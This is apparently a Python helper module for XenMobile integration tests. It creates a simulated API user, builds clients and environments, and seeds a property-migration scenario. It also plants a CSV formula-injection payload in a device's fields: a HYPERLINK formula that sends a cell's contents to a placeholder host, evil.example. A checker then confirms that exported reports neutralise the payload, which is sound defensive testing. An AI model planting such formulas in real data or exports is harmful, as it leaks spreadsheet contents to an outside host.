"""Helpers of the XenMobile integration tests: a known API user with distinctive credentials (so
leak tests can grep for them), clients and environments per simulated server, and scenarios."""

import csv
import io

from ansible_collections.opencitrix.automation.plugins.module_utils.retries import RetryPolicy
from ansible_collections.opencitrix.automation.plugins.module_utils.xenmobile.client import XenMobileClient
from tests.simulator.services.xenmobile import seeding as xenmobile_seed

XM_USER = 'it-xm-operator'
XM_PASSWORD = 'XmIt-Pa55-9d3e71c0'
WRONG_PASSWORD = 'XmIt-WRONG-4b8a02'


def xenmobile(sim):
    service = sim.service('xenmobile')
    if XM_USER not in service.instance().users:
        service.add_user(XM_USER, XM_PASSWORD)
    return service


def xm_env(sim, instance='default', password=XM_PASSWORD):
    """Environment reaching one simulated server as the test user (XENMOBILE_* variables)."""
    env = dict(xenmobile(sim).env(instance))
    env.update(XENMOBILE_USER=XM_USER, XENMOBILE_PASSWORD=password)
    return env


def connection(sim, instance):
    """Module connection options for one simulated server (for roles and module_defaults)."""
    return {'url': xenmobile(sim).url(instance), 'username': XM_USER, 'password': XM_PASSWORD,
            'ca_path': sim.ca_path}


def xm_client(sim, instance='default', username=XM_USER, password=XM_PASSWORD, sleeps=None, **kwargs):
    xenmobile(sim)
    retry = RetryPolicy(retries=2, sleep=sleeps if sleeps is not None else (lambda _s: None), rand=lambda: 1.0)
    return XenMobileClient(sim.service('xenmobile').url(instance), username, password, ca_path=sim.ca_path,
                           retry=retry, **kwargs)


def property_migration_scenario(sim, total=200, differ=27, missing=10, target_only=5):
    """The source (``test``) gets ``total`` properties; the target (``prod``) lacks ``missing`` of them,
    has another value for ``differ`` more, and has ``target_only`` of its own. Returns the names a
    migration must write (``differ + missing``)."""
    service = xenmobile(sim)
    source = xenmobile_seed.base_properties(total)
    target = [dict(p) for p in source]
    changed = [target[i] for i in range(3, 3 + 3 * differ, 3)]  # leaves the token settings alone
    for record in changed:
        record['value'] = record['value'] + '-prod'
    gone = set(p['name'] for p in target[-missing:])
    target = [p for p in target if p['name'] not in gone]
    for n in range(target_only):
        target.append(xenmobile_seed.property_record(None, 'prod.only.%d' % n, 'x', 'Prod only %d' % n))
    service.instance('test').set_properties(source)
    service.instance('prod').set_properties(target)
    return sorted([p['name'] for p in changed] + list(gone))


# A device whose owner and platform carry a spreadsheet formula after a line break: text anyone who can
# enrol a device or name a user controls.
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Open report")'
FORMULA_OWNER = 'eve@acme.com\n' + FORMULA
FORMULA_PLATFORM = 'iOS\n' + FORMULA


def plant_formula_device(sim, instance='default'):
    """Give the first device of ``instance`` the owner and platform above; returns that device."""
    device = xenmobile(sim).instance(instance).devices[0]
    device.update(userName=FORMULA_OWNER, platform=FORMULA_PLATFORM)
    return device


def csv_problems(text):
    """What is wrong with a CSV report that held the planted device: rows (as a spreadsheet splits the
    file into lines) starting with a formula, or the planted values not read back neutralised."""
    problems = ['line %d starts with %r' % (n, line[:12]) for n, line in enumerate(text.splitlines(), 1)
                if line.startswith(('=', '+', '-', '@'))]
    rows = list(csv.reader(io.StringIO(text, newline='')))
    owners = [row for row in rows if row and row[0].startswith('eve@acme.com')]
    if [row[0] for row in owners] != ["eve@acme.com\n'" + FORMULA]:
        problems.append('the owner cell reads back as %r' % ([row[0] for row in owners],))
    elif "iOS\n'" + FORMULA not in owners[0][3]:
        problems.append('the platform cell reads back as %r' % owners[0][3])
    return problems
